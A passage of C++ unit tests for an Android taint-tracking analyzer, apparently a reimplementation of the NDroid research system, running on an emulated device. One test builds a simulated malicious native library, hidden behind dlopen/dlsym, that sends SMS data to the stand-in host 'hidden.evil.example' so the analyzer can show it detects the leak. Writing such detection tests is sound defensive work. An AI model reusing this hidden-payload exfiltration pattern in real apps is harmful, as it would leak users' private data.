    EXPECT_FALSE(shadow.any_tainted_in(0x10000000 + i, 0xE0000000));
  }
  shadow.set(0xF0000000, 0);
  EXPECT_FALSE(shadow.any_tainted_in(0x10000000, 0xF0000001));
}

TEST(ShadowMemory, ResidentPagesTracksDirectory) {
  ShadowMemory shadow;
  EXPECT_EQ(shadow.resident_pages(), 0u);
  shadow.set(0x100, 0x1);
  shadow.set(0x40000000, 0x1);
  EXPECT_EQ(shadow.resident_pages(), 2u);
  shadow.set(0x101, 0x1);  // same page
  EXPECT_EQ(shadow.resident_pages(), 2u);
  shadow.clear_all();
  EXPECT_EQ(shadow.resident_pages(), 0u);
  EXPECT_EQ(shadow.tainted_bytes(), 0u);
}

TEST(ShadowMemory, EpochSlotsTrackCrossings) {
  ShadowMemory shadow;
  u64 liveness = 0;
  u64 mutation = 0;
  shadow.set_liveness_epoch_slot(&liveness);
  shadow.set_mutation_epoch_slot(&mutation);

  shadow.set(0x100, 0x1);  // dead -> live (both epochs)
  EXPECT_EQ(liveness, 1u);
  EXPECT_EQ(mutation, 1u);
  shadow.set(0x101, 0x1);  // same page stays live: no crossings
  EXPECT_EQ(liveness, 1u);
  EXPECT_EQ(mutation, 1u);
  shadow.set(0x40000000, 0x1);  // new page crosses, total stays live
  EXPECT_EQ(liveness, 1u);
  EXPECT_EQ(mutation, 2u);
  shadow.set_range(0x100, 2, 0);  // first page dies, total stays live
  EXPECT_EQ(liveness, 1u);
  EXPECT_EQ(mutation, 3u);
  shadow.clear_all();  // last page dies, total dies
  EXPECT_EQ(liveness, 2u);
  EXPECT_EQ(mutation, 4u);
}

}  // namespace
}  // namespace ndroid::mem
