// Hidden-library scenario: the app ships a benign-looking library that
// dlopen()s a second library at runtime and calls its leak function through
// dlsym — the "hide the program logic" pattern the paper attributes to
// malware using NDK (§I) and to type-II apps with loadable payloads (§III).
// NDroid must still detect the leak: the hidden library is just more guest
// code inside the app's address range.
#include <gtest/gtest.h>

#include "apps/native_lib_builder.h"
#include "core/ndroid.h"

namespace ndroid::core {
namespace {

using android::Device;
using arm::LR;
using arm::PC;
using arm::R;

TEST(DynamicLoading, DlopenDlsymRoundTrip) {
  Device device;
  device.libc.register_dl_library("libhidden.so",
                                  {{"secret_fn", 0x12340000}});
  const GuestAddr name = device.dvm.data_cstr("libhidden.so");
  const GuestAddr sym = device.dvm.data_cstr("secret_fn");
  const GuestAddr missing = device.dvm.data_cstr("libnot.so");

  const u32 handle =
      device.cpu.call_function(device.libc.fn("dlopen"), {name, 2});
  ASSERT_NE(handle, 0u);
  EXPECT_EQ(device.cpu.call_function(device.libc.fn("dlopen"), {missing, 2}),
            0u);
  EXPECT_EQ(device.cpu.call_function(device.libc.fn("dlsym"), {handle, sym}),
            0x12340000u);
  device.cpu.call_function(device.libc.fn("dlclose"), {handle});
  EXPECT_EQ(device.cpu.call_function(device.libc.fn("dlsym"), {handle, sym}),
            0u);  // closed handles resolve nothing
}

TEST(DynamicLoading, HiddenLibraryLeakStillDetected) {
  Device device;
  NDroid nd(device);
  auto& dvm = device.dvm;

  // The hidden payload: void hidden_leak(const char* p) — sends p out.
  apps::NativeLibBuilder hidden(device, "libhidden.so");
  {
    auto& a = hidden.a();
    const GuestAddr host = hidden.cstr("hidden.evil.example");
    const GuestAddr fn = hidden.fn();
    a.push({R(4), R(5), LR});
    a.mov(R(5), R(0));  // p
    a.mov_imm(R(0), 2);
    a.mov_imm(R(1), 1);
    a.mov_imm(R(2), 0);
    a.call(device.libc.fn("socket"));
    a.mov(R(4), R(0));
    a.mov_imm32(R(1), host);
    a.mov_imm(R(2), 80);
    a.call(device.libc.fn("connect"));
    a.mov(R(0), R(5));
    a.call(device.libc.fn("strlen"));
    a.mov(R(2), R(0));
    a.mov(R(0), R(4));
    a.mov(R(1), R(5));
    a.call(device.libc.fn("send"));
    a.pop({R(4), R(5), PC});
    hidden.install();
    device.libc.register_dl_library("libhidden.so", {{"hidden_leak", fn}});
  }

  // The visible loader library: void run(JNIEnv*, jclass, jstring secret)
  //   { p = GetStringUTFChars(secret);
  //     h = dlopen("libhidden.so"); f = dlsym(h, "hidden_leak"); f(p); }
  apps::NativeLibBuilder loader(device, "libloader.so");
  GuestAddr fn_run;
  {
    auto& a = loader.a();
    const GuestAddr libname = loader.cstr("libhidden.so");
    const GuestAddr symname = loader.cstr("hidden_leak");
    fn_run = loader.fn();
    a.push({R(4), R(5), LR});
    a.mov(R(1), R(2));
    a.mov_imm(R(2), 0);
    a.call(device.jni.fn("GetStringUTFChars"));
    a.mov(R(5), R(0));  // p
    a.mov_imm32(R(0), libname);
    a.mov_imm(R(1), 2);
    a.call(device.libc.fn("dlopen"));
    a.mov_imm32(R(1), symname);
    a.call(device.libc.fn("dlsym"));
    a.mov(R(4), R(0));  // hidden_leak
    a.mov(R(0), R(5));
    a.blx(R(4));
    a.pop({R(4), R(5), PC});
    loader.install();
  }

  dvm::ClassObject* app = dvm.define_class("Lhidden/App;");
  dvm::Method* run = dvm.define_native(app, "run", "VL",
                                       dvm::kAccPublic | dvm::kAccStatic,
                                       fn_run);
  dvm::Method* src = device.framework.sms_manager->find_method(
      "getAllMessages");
  dvm::CodeBuilder cb;
  cb.invoke(src, {}).move_result(0).invoke(run, {0}).return_void();
  dvm::Method* entry = dvm.define_method(
      app, "main", "V", dvm::kAccPublic | dvm::kAccStatic, 1, cb.take());
  dvm.call(*entry, {});

  EXPECT_EQ(device.kernel.network().bytes_sent_to("hidden.evil.example"),
            "sms:1:hello from vincent");
  ASSERT_FALSE(nd.leaks().empty());
  EXPECT_EQ(nd.leaks()[0].sink, "send");
  EXPECT_EQ(nd.leaks()[0].taint, kTaintSms);
}

}  // namespace
}  // namespace ndroid::core
