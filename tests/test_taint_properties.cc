// Property-based tests (parameterized sweeps) of the taint machinery:
//
//  * soundness of the instruction tracer on randomized straight-line native
//    programs: the taint of every output register must equal the union of
//    the tainted inputs it data-depends on (checked against a host-side
//    reference dataflow);
//  * model-vs-trace equivalence: Table VI models and instruction-level
//    tracing must produce identical taint states for the string functions;
//  * shadow-memory range-operation algebra over randomized ranges;
//  * indirect-reference-table and GC invariants under random workloads.
#include <gtest/gtest.h>

#include <random>

#include "android/device.h"
#include "apps/native_lib_builder.h"
#include "core/ndroid.h"

namespace ndroid::core {
namespace {

using android::Device;

// ---------------------------------------------------------------------------
// Randomized dataflow soundness
// ---------------------------------------------------------------------------

class TracerDataflow : public ::testing::TestWithParam<u32> {};

TEST_P(TracerDataflow, MatchesReferenceDataflow) {
  std::mt19937 rng(GetParam());

  Device device;
  NDroid nd(device);

  // Generate a random straight-line program over r0-r5 (r0-r3 are the JNI
  // args env/cls/a/b; we use r2, r3 as data inputs).
  apps::NativeLibBuilder lib(device, "librand.so");
  auto& a = lib.a();
  using arm::R;
  const GuestAddr fn = lib.fn();

  // Reference taint state: which input taints each register carries.
  // Inputs: r2 -> bit0, r3 -> bit1. Immediates clear.
  std::array<u32, 8> ref{};
  ref[2] = 1;  // r2 carries input A
  ref[3] = 2;  // r3 carries input B

  const u32 steps = 4 + rng() % 12;
  for (u32 i = 0; i < steps; ++i) {
    const u8 rd = 2 + rng() % 4;  // r2..r5
    const u8 rn = 2 + rng() % 4;
    const u8 rm = 2 + rng() % 4;
    switch (rng() % 6) {
      case 0:
        a.add(R(rd), R(rn), R(rm));
        ref[rd] = ref[rn] | ref[rm];
        break;
      case 1:
        a.eor(R(rd), R(rn), R(rm));
        ref[rd] = ref[rn] | ref[rm];
        break;
      case 2:
        a.mul(R(rd), R(rn), R(rm));
        ref[rd] = ref[rn] | ref[rm];
        break;
      case 3:
        a.mov(R(rd), R(rm));
        ref[rd] = ref[rm];
        break;
      case 4:
        a.mov_imm(R(rd), static_cast<u32>(rng() % 255));
        ref[rd] = 0;
        break;
      case 5:
        a.sub_imm(R(rd), R(rn), static_cast<u32>(rng() % 255));
        ref[rd] = ref[rn];
        break;
    }
  }
  const u8 out = 2 + rng() % 4;
  a.mov(R(0), R(out));
  const u32 expected_mask = ref[out];
  a.ret();
  lib.install();

  dvm::ClassObject* cls = device.dvm.define_class("Lrand/App;");
  dvm::Method* m = device.dvm.define_native(
      cls, "f", "III", dvm::kAccPublic | dvm::kAccStatic, fn);

  // Input A tainted IMEI, input B tainted SMS.
  const dvm::Slot r = device.dvm.call(
      *m, {dvm::Slot{static_cast<u32>(rng()), kTaintImei},
           dvm::Slot{static_cast<u32>(rng()), kTaintSms}});

  Taint expected = kTaintClear;
  if (expected_mask & 1) expected |= kTaintImei;
  if (expected_mask & 2) expected |= kTaintSms;
  // TaintDroid's coarse return policy unions ALL argument taints, so the
  // final slot taint is expected | <policy union when any arg tainted>.
  // Disable the coarse policy to observe NDroid's precise result alone.
  device.dvm.policy().jni_ret_union = false;
  const dvm::Slot r2 = device.dvm.call(
      *m, {dvm::Slot{static_cast<u32>(rng()), kTaintImei},
           dvm::Slot{static_cast<u32>(rng()), kTaintSms}});
  EXPECT_EQ(r2.taint, expected) << "seed " << GetParam();
  // With the policy on, the result must be a superset.
  EXPECT_EQ(r.taint & expected, expected);
}

INSTANTIATE_TEST_SUITE_P(Seeds, TracerDataflow,
                         ::testing::Range(1u, 33u));

// ---------------------------------------------------------------------------
// Model vs. instruction tracing equivalence
// ---------------------------------------------------------------------------

struct EquivCase {
  u32 length;
  u32 taint_offset;  // which byte of the source carries taint
};

class ModelTraceEquivalence
    : public ::testing::TestWithParam<std::tuple<u32, u32>> {};

TEST_P(ModelTraceEquivalence, StrcpyTaintIdentical) {
  const u32 length = std::get<0>(GetParam());
  const u32 offset = std::get<1>(GetParam());
  if (offset >= length) GTEST_SKIP();

  std::array<std::vector<Taint>, 2> results;
  for (int mode = 0; mode < 2; ++mode) {
    Device device;
    NDroidConfig cfg;
    cfg.syslib_models = mode == 0;
    if (mode == 1) cfg.scope = NDroidConfig::Scope::kThirdPartyAndLibc;
    NDroid nd(device, cfg);

    const GuestAddr src = 0x30100000;
    const GuestAddr dst = 0x30200000;
    std::string payload(length, 'x');
    device.memory.write_cstr(src, payload);
    nd.taint_engine().map().set(src + offset, kTaintContacts);

    device.cpu.call_function(device.libc.fn("strcpy"), {dst, src});

    auto& map = nd.taint_engine().map();
    results[mode].resize(length + 1);
    for (u32 i = 0; i <= length; ++i) {
      results[mode][i] = map.get(dst + i);
    }
  }
  EXPECT_EQ(results[0], results[1])
      << "len=" << length << " off=" << offset;
  // And the tainted byte must be present at the same position.
  EXPECT_EQ(results[0][offset], kTaintContacts);
}

INSTANTIATE_TEST_SUITE_P(
    Sweep, ModelTraceEquivalence,
    ::testing::Combine(::testing::Values(1u, 2u, 7u, 16u, 33u, 64u),
                       ::testing::Values(0u, 1u, 6u, 15u, 32u, 63u)));

// ---------------------------------------------------------------------------
// Shadow-memory algebra
// ---------------------------------------------------------------------------

class ShadowAlgebra : public ::testing::TestWithParam<u32> {};

TEST_P(ShadowAlgebra, RangeOpsMatchByteOps) {
  std::mt19937 rng(GetParam());
  mem::ShadowMemory fast;    // exercised via range ops
  std::map<u32, Taint> ref;  // reference byte map

  for (int step = 0; step < 200; ++step) {
    // Ranges straddle page boundaries on purpose.
    const u32 addr = 0xFF0 + rng() % 0x2000;
    const u32 len = 1 + rng() % 70;
    const Taint t = 1u << (rng() % 8);
    switch (rng() % 4) {
      case 0:
        fast.set_range(addr, len, t);
        for (u32 i = 0; i < len; ++i) ref[addr + i] = t;
        break;
      case 1:
        fast.add_range(addr, len, t);
        for (u32 i = 0; i < len; ++i) ref[addr + i] |= t;
        break;
      case 2:
        fast.clear_range(addr, len);
        for (u32 i = 0; i < len; ++i) ref.erase(addr + i);
        break;
      case 3: {
        Taint expect = kTaintClear;
        for (u32 i = 0; i < len; ++i) {
          auto it = ref.find(addr + i);
          if (it != ref.end()) expect |= it->second;
        }
        ASSERT_EQ(fast.get_range(addr, len), expect) << "step " << step;
        break;
      }
    }
  }
  for (const auto& [addr, taint] : ref) {
    if (taint != kTaintClear) {
      ASSERT_EQ(fast.get(addr), taint);
    }
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, ShadowAlgebra, ::testing::Range(1u, 9u));

TEST_P(ShadowAlgebra, CopyRangeEquivalence) {
  std::mt19937 rng(GetParam() * 977);
  mem::ShadowMemory shadow;
  for (int i = 0; i < 64; ++i) {
    shadow.set(0x1000 + rng() % 256, 1u << (rng() % 16));
  }
  // Copy with random overlap; verify against a snapshot.
  std::vector<Taint> snapshot(512);
  for (u32 i = 0; i < 512; ++i) snapshot[i] = shadow.get(0x1000 + i);
  const u32 dst_off = rng() % 128;
  const u32 src_off = rng() % 128;
  const u32 len = 1 + rng() % 128;
  shadow.copy_range(0x1000 + dst_off, 0x1000 + src_off, len);
  for (u32 i = 0; i < len; ++i) {
    ASSERT_EQ(shadow.get(0x1000 + dst_off + i), snapshot[src_off + i]);
  }
}

// ---------------------------------------------------------------------------
// IRT + GC invariants
// ---------------------------------------------------------------------------

class IrtGcProperty : public ::testing::TestWithParam<u32> {};

TEST_P(IrtGcProperty, HandlesSurviveGcStaleHandlesNever) {
  std::mt19937 rng(GetParam() * 31337);
  Device device;
  auto& dvm = device.dvm;

  struct Live {
    dvm::Object* obj;
    u32 iref;
    std::string content;
  };
  std::vector<Live> live;
  std::vector<u32> stale;

  for (int step = 0; step < 120; ++step) {
    switch (rng() % 4) {
      case 0:
      case 1: {  // allocate + register
        std::string s = "obj-" + std::to_string(step);
        dvm::Object* o = dvm.new_string(s);
        live.push_back({o, dvm.irt().add(o), std::move(s)});
        break;
      }
      case 2: {  // drop a handle
        if (live.empty()) break;
        const u32 idx = rng() % live.size();
        dvm.irt().remove(live[idx].iref);
        stale.push_back(live[idx].iref);
        live.erase(live.begin() + idx);
        break;
      }
      case 3:
        dvm.run_gc();
        break;
    }
  }
  dvm.run_gc();

  for (const Live& l : live) {
    ASSERT_TRUE(dvm.irt().is_valid(l.iref));
    ASSERT_EQ(dvm.irt().decode(l.iref), l.obj);
    ASSERT_EQ(dvm.heap().read_string(*l.obj), l.content);
  }
  for (u32 ref : stale) {
    ASSERT_FALSE(dvm.irt().is_valid(ref));
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, IrtGcProperty, ::testing::Range(1u, 9u));

TEST_P(IrtGcProperty, ObjectTaintTravelsWithGc) {
  std::mt19937 rng(GetParam() * 7919);
  Device device;
  auto& dvm = device.dvm;

  std::vector<std::pair<dvm::Object*, Taint>> tainted;
  for (int i = 0; i < 40; ++i) {
    dvm::Object* o = dvm.new_string("payload-" + std::to_string(i));
    const Taint t = 1u << (rng() % 16);
    dvm.heap().set_object_taint(*o, t);
    tainted.emplace_back(o, t);
  }
  dvm.run_gc();
  dvm.new_string("post-gc");
  dvm.run_gc();
  for (const auto& [obj, taint] : tainted) {
    ASSERT_EQ(dvm.heap().object_taint(*obj), taint);
  }
}

}  // namespace
}  // namespace ndroid::core
