// Robustness and failure-injection tests: resource exhaustion, recursion
// guards, log capping, and cross-page behaviour.
#include <gtest/gtest.h>

#include "android/device.h"
#include "core/ndroid.h"

namespace ndroid {
namespace {

using android::Device;
using dvm::CodeBuilder;
using dvm::kAccPublic;
using dvm::kAccStatic;
using dvm::Method;
using dvm::Slot;

TEST(Edges, DvmStackOverflowOnRunawayRecursion) {
  Device device;
  auto& dvm = device.dvm;
  dvm::ClassObject* cls = dvm.define_class("Ledge/Rec;");
  // f(x) { return f(x); } — infinite recursion must fault, not crash.
  // Forward reference to itself: define with empty body, then patch it in.
  Method* self = dvm.define_method(cls, "f", "II", kAccPublic | kAccStatic,
                                   2, {});
  CodeBuilder body;
  body.invoke(self, {1}).move_result(0).return_value(0);
  self->code = body.take();
  EXPECT_THROW(dvm.call(*self, {Slot{1, 0}}), GuestFault);
}

TEST(Edges, GuestCallDepthGuard) {
  // A native method that calls itself through the JNI bridge would recurse
  // through cpu.call_function; the depth guard must fault before the host
  // stack dies. Simulate with a helper that re-enters call_function.
  Device device;
  GuestAddr self_addr = 0;
  self_addr = device.cpu.register_helper_auto([&](arm::Cpu& cpu) {
    cpu.call_function(self_addr, {});
  });
  EXPECT_THROW(device.cpu.call_function(self_addr, {}), GuestFault);
}

TEST(Edges, DalvikHeapExhaustionFaults) {
  Device device;
  auto& dvm = device.dvm;
  EXPECT_THROW(
      {
        for (int i = 0; i < 2'000'000; ++i) {
          dvm.new_string("consume the dalvik heap, 32+ bytes each time");
        }
      },
      GuestFault);
}

TEST(Edges, TraceLogCapsAndCountsDrops) {
  core::TraceLog log;
  for (int i = 0; i < 70'000; ++i) log.line("x");
  EXPECT_EQ(log.lines().size(), 65536u);
  EXPECT_EQ(log.dropped(), 70'000u - 65536u);
}

TEST(Edges, OutsAreaExhaustionFaults) {
  Device device;
  auto& stack = device.dvm.stack();
  EXPECT_THROW(
      {
        for (int i = 0; i < 1'000'000; ++i) {
          stack.push_outs(16);  // never popped
        }
      },
      GuestFault);
}

TEST(Edges, NetworkPortAndMultiplePackets) {
  Device device;
  auto& net = device.kernel.network();
  const int s = net.create_socket();
  net.connect(s, "host.example", 8443);
  const u8 a[] = {'a'};
  const u8 b[] = {'b'};
  net.send(s, a);
  net.send(s, b);
  ASSERT_EQ(net.packets().size(), 2u);
  EXPECT_EQ(net.packets()[0].dest_port, 8443);
  EXPECT_EQ(net.bytes_sent_to("host.example"), "ab");
  net.clear_packets();
  EXPECT_TRUE(net.packets().empty());
}

TEST(Edges, SparseGuestMemoryStaysSparse) {
  Device device;
  // Touch a few distant addresses; footprint must stay tiny.
  device.memory.write8(0x00000000, 1);
  device.memory.write8(0x7FFFFFFF, 1);
  device.memory.write8(0xFFFFFFF0, 1);
  EXPECT_LE(device.memory.resident_pages(), 400u);  // system image + 3
}

TEST(Edges, CrossPageStringAndCopy) {
  mem::AddressSpace mem;
  const GuestAddr addr = mem::AddressSpace::kPageSize - 3;
  mem.write_cstr(addr, "spans-a-page-boundary");
  EXPECT_EQ(mem.read_cstr(addr), "spans-a-page-boundary");
  mem.copy(addr + 0x2000, addr, 22);
  EXPECT_EQ(mem.read_cstr(addr + 0x2000), "spans-a-page-boundary");
}

TEST(Edges, BridgeArityMismatchFaults) {
  Device device;
  auto& dvm = device.dvm;
  dvm::ClassObject* cls = dvm.define_class("Ledge/Ar;");
  CodeBuilder cb;
  cb.return_void();
  Method* m = dvm.define_method(cls, "f", "VI", kAccPublic | kAccStatic, 2,
                                cb.take());
  EXPECT_THROW(dvm.call(*m, {}), GuestFault);           // too few
  EXPECT_THROW(dvm.call(*m, {Slot{}, Slot{}}), GuestFault);  // too many
}

TEST(Edges, NDroidDetachRestoresCleanDevice) {
  // Destroying NDroid must remove its hooks: further execution runs without
  // any analysis callbacks firing.
  Device device;
  {
    core::NDroid nd(device);
  }
  dvm::ClassObject* cls = device.dvm.define_class("Ledge/Post;");
  CodeBuilder cb;
  cb.const_imm(0, 5).return_value(0);
  Method* m = device.dvm.define_method(cls, "f", "I",
                                       kAccPublic | kAccStatic, 1, cb.take());
  EXPECT_EQ(device.dvm.call(*m, {}).value, 5u);
}

TEST(Edges, TwoAnalyzersCoexist) {
  // Attaching NDroid twice (e.g. one verbose, one not) must not corrupt
  // hook dispatch — both observe, device behaviour unchanged.
  Device device;
  core::NDroid nd1(device);
  core::NDroid nd2(device);
  dvm::ClassObject* cls = device.dvm.define_class("Ledge/Two;");
  CodeBuilder cb;
  cb.const_imm(0, 9).return_value(0);
  Method* m = device.dvm.define_method(cls, "f", "I",
                                       kAccPublic | kAccStatic, 1, cb.take());
  EXPECT_EQ(device.dvm.call(*m, {}).value, 9u);
}

}  // namespace
}  // namespace ndroid
