#include <gtest/gtest.h>

#include "arm/assembler.h"
#include "common/taint_tags.h"
#include "dvm/dvm.h"

namespace ndroid::dvm {
namespace {

class DvmFixture : public ::testing::Test {
 protected:
  static constexpr GuestAddr kNativeCode = 0x10000;

  DvmFixture()
      : cpu_(mem_, map_),
        dvm_(cpu_, /*libdvm*/ 0x40000000, 0x40000,
             /*heap*/ 0x34000000, 0x200000,
             /*stack*/ 0x38000000, 0x40000) {
    map_.add("libapp.so", kNativeCode, 0x4000, mem::kRX);
    map_.add("[stack]", 0xBE000000, 0x100000, mem::kRW);
    cpu_.set_initial_sp(0xBE100000);
  }

  /// Assembles an ARM-mode native function body into libapp.so.
  GuestAddr install_native(const std::function<void(arm::Assembler&)>& body) {
    arm::Assembler a(kNativeCode + native_bump_);
    body(a);
    auto code = a.finish();
    const GuestAddr addr = kNativeCode + native_bump_;
    mem_.write_bytes(addr, code);
    native_bump_ += static_cast<u32>(code.size());
    return addr;
  }

  mem::AddressSpace mem_;
  mem::MemoryMap map_;
  arm::Cpu cpu_;
  Dvm dvm_;
  u32 native_bump_ = 0;
};

TEST_F(DvmFixture, InterpretedArithmetic) {
  ClassObject* cls = dvm_.define_class("Lcom/example/Calc;");
  CodeBuilder cb;
  // int add(int a, int b): v2 = a (v0), v3 = b (v1) ... registers: 4 total,
  // ins = 2 -> args in v2, v3.
  cb.add(0, 2, 3).return_value(0);
  Method* m = dvm_.define_method(cls, "add", "III",
                                 kAccPublic | kAccStatic, 4, cb.take());
  const Slot r = dvm_.call(*m, {Slot{40, 0}, Slot{2, 0}});
  EXPECT_EQ(r.value, 42u);
  EXPECT_EQ(r.taint, kTaintClear);
}

TEST_F(DvmFixture, TaintFlowsThroughBinop) {
  ClassObject* cls = dvm_.define_class("LFlow;");
  CodeBuilder cb;
  cb.add(0, 2, 3).return_value(0);
  Method* m =
      dvm_.define_method(cls, "add", "III", kAccPublic | kAccStatic, 4,
                         cb.take());
  const Slot r = dvm_.call(*m, {Slot{1, kTaintImei}, Slot{2, kTaintSms}});
  EXPECT_EQ(r.value, 3u);
  EXPECT_EQ(r.taint, kTaintImei | kTaintSms);
}

TEST_F(DvmFixture, ConstClearsTaint) {
  ClassObject* cls = dvm_.define_class("LConst;");
  CodeBuilder cb;
  cb.move(0, 2).const_imm(0, 7).return_value(0);
  Method* m = dvm_.define_method(cls, "f", "II", kAccPublic | kAccStatic, 3,
                                 cb.take());
  const Slot r = dvm_.call(*m, {Slot{5, kTaintImei}});
  EXPECT_EQ(r.value, 7u);
  EXPECT_EQ(r.taint, kTaintClear);
}

TEST_F(DvmFixture, TaintDisabledWhenPolicyOff) {
  dvm_.policy().propagate_java = false;
  ClassObject* cls = dvm_.define_class("LOff;");
  CodeBuilder cb;
  cb.add(0, 2, 3).return_value(0);
  Method* m = dvm_.define_method(cls, "add", "III", kAccPublic | kAccStatic,
                                 4, cb.take());
  const Slot r = dvm_.call(*m, {Slot{1, kTaintImei}, Slot{2, 0}});
  EXPECT_EQ(r.taint, kTaintClear);
}

TEST_F(DvmFixture, ArrayTaintIsObjectLevel) {
  // TaintDroid: one label per array object; aput unions, aget reads it back.
  ClassObject* cls = dvm_.define_class("LArr;");
  CodeBuilder cb;
  // v0 = new int[2]; v0[v1=0] = tainted arg (v4); v2 = v0[1]; return v2
  cb.const_imm(1, 2)
      .new_array(0, 1, 4, false)
      .const_imm(1, 0)
      .aput(4, 0, 1)
      .const_imm(1, 1)
      .aget(2, 0, 1)
      .return_value(2);
  Method* m = dvm_.define_method(cls, "f", "II", kAccPublic | kAccStatic, 5,
                                 cb.take());
  const Slot r = dvm_.call(*m, {Slot{0xAB, kTaintContacts}});
  // Element 1 was never written (value 0) but the array-level taint applies.
  EXPECT_EQ(r.value, 0u);
  EXPECT_EQ(r.taint, kTaintContacts);
}

TEST_F(DvmFixture, InstanceFieldTaintInterleaved) {
  ClassObject* cls = dvm_.define_class("LObj;");
  cls->add_instance_field("secret", 'I');
  CodeBuilder cb;
  // v0 = new Obj; v0.secret = arg(v3); v1 = v0.secret; return v1
  cb.new_instance(0, cls).iput(3, 0, 0).iget(1, 0, 0).return_value(1);
  Method* m = dvm_.define_method(cls, "f", "II", kAccPublic | kAccStatic, 4,
                                 cb.take());
  const Slot r = dvm_.call(*m, {Slot{77, kTaintImsi}});
  EXPECT_EQ(r.value, 77u);
  EXPECT_EQ(r.taint, kTaintImsi);
}

TEST_F(DvmFixture, StaticFieldTaint) {
  ClassObject* cls = dvm_.define_class("LStatics;");
  cls->add_static_field("cache", 'I');
  CodeBuilder store, load;
  store.sput(2, cls, 0).return_void();
  Method* ms = dvm_.define_method(cls, "store", "VI",
                                  kAccPublic | kAccStatic, 3, store.take());
  load.sget(0, cls, 0).return_value(0);
  Method* ml = dvm_.define_method(cls, "load", "I", kAccPublic | kAccStatic,
                                  1, load.take());
  dvm_.call(*ms, {Slot{5, kTaintSms}});
  const Slot r = dvm_.call(*ml, {});
  EXPECT_EQ(r.value, 5u);
  EXPECT_EQ(r.taint, kTaintSms);
}

TEST_F(DvmFixture, LoopAndBranches) {
  ClassObject* cls = dvm_.define_class("LLoop;");
  CodeBuilder cb;
  // sum 1..n: v0=acc, v1=i, v2=n(arg)
  cb.const_imm(0, 0).const_imm(1, 1);
  const i32 loop_head = cb.here();
  // Layout indices: 0:const,1:const, 2:if, 3:add, 4:add_imm, 5:goto, 6:return
  cb.if_op(DOp::kIfLt, 2, 1, 6);  // placeholder semantics: if n < i -> exit
  cb.add(0, 0, 1).add_imm(1, 1, 1).goto_(loop_head);
  cb.return_value(0);
  Method* m = dvm_.define_method(cls, "sum", "II", kAccPublic | kAccStatic,
                                 3, cb.take());
  EXPECT_EQ(dvm_.call(*m, {Slot{10, 0}}).value, 55u);
}

TEST_F(DvmFixture, JavaToJavaInvokePropagatesTaint) {
  ClassObject* cls = dvm_.define_class("LNest;");
  CodeBuilder inner;
  inner.add(0, 1, 2).return_value(0);
  Method* mi = dvm_.define_method(cls, "inner", "III",
                                  kAccPublic | kAccStatic, 3, inner.take());
  CodeBuilder outer;
  outer.const_imm(0, 10).invoke(mi, {0, 2}).move_result(1).return_value(1);
  Method* mo = dvm_.define_method(cls, "outer", "II",
                                  kAccPublic | kAccStatic, 3, outer.take());
  const Slot r = dvm_.call(*mo, {Slot{32, kTaintLocation}});
  EXPECT_EQ(r.value, 42u);
  EXPECT_EQ(r.taint, kTaintLocation);
}

TEST_F(DvmFixture, BuiltinSourceTaintsResult) {
  ClassObject* cls = dvm_.define_class("LTel;");
  Method* src = dvm_.define_builtin(
      cls, "getDeviceId", "I", kAccPublic | kAccStatic,
      [](Dvm&, std::vector<Slot>&) { return Slot{35391805u, kTaintImei}; });
  CodeBuilder cb;
  cb.invoke(src, {}).move_result(0).return_value(0);
  Method* m = dvm_.define_method(cls, "f", "I", kAccPublic | kAccStatic, 1,
                                 cb.take());
  const Slot r = dvm_.call(*m, {});
  EXPECT_EQ(r.value, 35391805u);
  EXPECT_EQ(r.taint, kTaintImei);
}

TEST_F(DvmFixture, NativeInvokeThroughGuestBridge) {
  // Native method doubles its int argument: args = (JNIEnv*, jclass, int).
  const GuestAddr fn = install_native([](arm::Assembler& a) {
    a.add(arm::R(0), arm::R(2), arm::R(2));
    a.ret();
  });
  ClassObject* cls = dvm_.define_class("LNat;");
  Method* m =
      dvm_.define_native(cls, "twice", "II", kAccPublic | kAccStatic, fn);
  const Slot r = dvm_.call(*m, {Slot{21, 0}});
  EXPECT_EQ(r.value, 42u);
  EXPECT_EQ(r.taint, kTaintClear);
}

TEST_F(DvmFixture, TaintDroidJniReturnPolicy) {
  const GuestAddr fn = install_native([](arm::Assembler& a) {
    a.mov(arm::R(0), arm::R(2));
    a.ret();
  });
  ClassObject* cls = dvm_.define_class("LNatT;");
  Method* m =
      dvm_.define_native(cls, "id", "II", kAccPublic | kAccStatic, fn);
  // Policy on: tainted parameter -> tainted return (paper §IV).
  Slot r = dvm_.call(*m, {Slot{7, kTaintImei}});
  EXPECT_EQ(r.taint, kTaintImei);
  // Policy off (vanilla): no taint.
  dvm_.policy().jni_ret_union = false;
  r = dvm_.call(*m, {Slot{7, kTaintImei}});
  EXPECT_EQ(r.taint, kTaintClear);
}

TEST_F(DvmFixture, BridgeHookSeesMethodStructAndTaints) {
  // Simulates NDroid's JNI-entry hook: on branch to dvmCallJNIMethod, read
  // the guest Method struct and the interleaved taints via r0.
  const GuestAddr fn = install_native([](arm::Assembler& a) {
    a.mov_imm(arm::R(0), 0);
    a.ret();
  });
  ClassObject* cls = dvm_.define_class("Lcom/tencent/tccsync/LoginUtil;");
  Method* m = dvm_.define_native(cls, "makeLoginRequestPackageMd5", "II",
                                 kAccPublic | kAccStatic, fn);

  std::string seen_name, seen_shorty, seen_class;
  Taint seen_taint = 0;
  const GuestAddr bridge = dvm_.sym("dvmCallJNIMethod");
  cpu_.add_branch_hook([&](arm::Cpu& c, GuestAddr, GuestAddr to) {
    if (to != bridge) return;
    const auto& regs = c.state().regs;
    const GuestAddr method_struct = regs[2];
    seen_name = c.memory().read_cstr(
        c.memory().read32(method_struct + GuestMethodLayout::kName));
    seen_shorty = c.memory().read_cstr(
        c.memory().read32(method_struct + GuestMethodLayout::kShorty));
    seen_class = c.memory().read_cstr(
        c.memory().read32(method_struct + GuestMethodLayout::kClassDesc));
    seen_taint = c.memory().read32(regs[0] + 4);  // arg0 taint
  });
  dvm_.call(*m, {Slot{5, kTaintSms | kTaintContacts}});
  EXPECT_EQ(seen_name, "makeLoginRequestPackageMd5");
  EXPECT_EQ(seen_shorty, "II");
  EXPECT_EQ(seen_class, "Lcom/tencent/tccsync/LoginUtil;");
  EXPECT_EQ(seen_taint, kTaintSms | kTaintContacts);  // 0x202, as in Fig. 6
}

TEST_F(DvmFixture, NativeReceivesIndirectReferences) {
  // Native identity function on an object arg: (env, cls, jobject) -> jobject.
  const GuestAddr fn = install_native([](arm::Assembler& a) {
    a.mov(arm::R(0), arm::R(2));
    a.ret();
  });
  ClassObject* cls = dvm_.define_class("LIref;");
  Method* m =
